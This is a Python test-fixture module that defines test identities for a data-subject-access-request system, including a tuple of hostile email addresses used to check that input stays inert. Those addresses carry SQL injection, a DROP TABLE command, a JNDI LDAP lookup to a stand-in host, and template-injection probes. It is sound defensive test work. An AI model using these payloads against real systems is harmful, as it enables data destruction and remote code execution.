"""The cast. Reserved domains and fictional numbers only (RFC 2606; Ofcom's drama numbers)."""

from dsar.person import Identifier, Identity
from dsar.vocabulary import IdentifierKind

ADA_EMAIL = "ada.osei@subject.example"
ADA_PHONE = "+442079460101"
ADA_NAME = "Ada Osei-Quartermaine"


def identity(email: str, **more: str) -> Identity:
    """Return an identity as intake would seal it; `more` maps identifier kinds to values."""
    found = [Identifier(kind=IdentifierKind.EMAIL, value=email)]
    found += [Identifier(kind=IdentifierKind(kind), value=value) for kind, value in more.items()]
    return Identity(identifiers=tuple(found))


ADA = identity(ADA_EMAIL, phone=ADA_PHONE, name=ADA_NAME)
STRANGER = identity("nobody.here@stranger.example")

# Names and addresses that must stay names and addresses wherever they go.
HOSTILE = tuple(
    identity(email)
    for email in (
        "o'brien@hostile.example",
        'quote"s@hostile.example',
        "plus+tag@hostile.example",
        "percent%00@hostile.example",
        "' OR '1'='1@hostile.example",
        "x'; DROP TABLE customers; --@hostile.example",
        "ünïcödé@hostile.example",
        "${jndi:ldap://hostile.example}@hostile.example",
        "{{7*7}}@hostile.example",
        "%25@hostile.example",
        "a_c@hostile.example",
        "back\\slash@hostile.example",
    )
)
